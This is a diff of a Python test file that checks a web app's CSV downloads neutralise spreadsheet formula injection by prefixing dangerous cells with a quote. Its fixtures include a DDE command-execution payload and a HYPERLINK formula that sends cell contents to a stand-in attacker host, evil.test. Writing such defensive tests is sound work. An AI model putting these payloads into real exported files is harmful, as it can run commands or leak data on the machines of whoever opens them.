@@ -7,14 +7,18 @@ import asyncio
 import io
 import json
 import zipfile
+from dataclasses import dataclass
 
 import pytest
 
+from app.csv_safety import inert_cell
+from app.generation.tables import Cell, Table
 from app.llm import LLMConfig, build_writer
 from app.main import routes
-from app.pipeline.export_csv import inert_cell
+from app.pipeline.export_csv import spec_csvs_with_keys
 from app.pipeline.generation import run_generation
 from app.web.routing import Auth, SecuredRoute
+from tests.support import REPO
 from tests.web.conftest import AppUnderTest
 from tests.web.project import Director, director
 
@@ -83,6 +87,32 @@ def test_formula_cells_open_as_text_in_the_csv_download() -> None:
         assert inert_cell(cell).startswith("'")
     for cell in ("-1", "+3.5", "-", "", "Plain", "DTG-12"):
         assert inert_cell(cell) == cell
+
+
+def test_attached_tables_and_the_header_row_of_the_download_neutralise_formulas_too() -> None:
+    heading, value = Cell("=cmd|' /C calc'!A0"), Cell(FORMULA, "bundles.csv", 1, "Settings/notes")
+    attached = Table("Bundles", ((heading, Cell("Name")), (value, Cell("-1", "bundles.csv", 1, "Name"))))
+    assert attached.to_csv() == (
+        "'=cmd|' /C calc'!A0,Name\r\n" + '"\'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",-1\r\n'
+    )
+
+    @dataclass
+    class Spec:
+        name: str
+        data: bytes
+
+    upload = Spec("bundles.csv", b'ID,Name,@SUM(A1)\n,Plain,"=1+1"\n')
+    [download] = spec_csvs_with_keys([upload], []).values()
+    assert download == b"ID,Name,'@SUM(A1)\n,Plain,'=1+1\n"
+
+
+def test_only_the_csv_safety_module_writes_csv() -> None:
+    writers = [
+        path.relative_to(REPO).as_posix()
+        for path in (REPO / "app").rglob("*.py")
+        if "csv.writer(" in path.read_text(encoding="utf-8") or "csv.DictWriter(" in path.read_text(encoding="utf-8")
+    ]
+    assert writers == ["app/csv_safety.py"]
 
 
 def test_the_spec_download_neutralises_formulas_and_keeps_every_row(app_under_test: AppUnderTest) -> None:
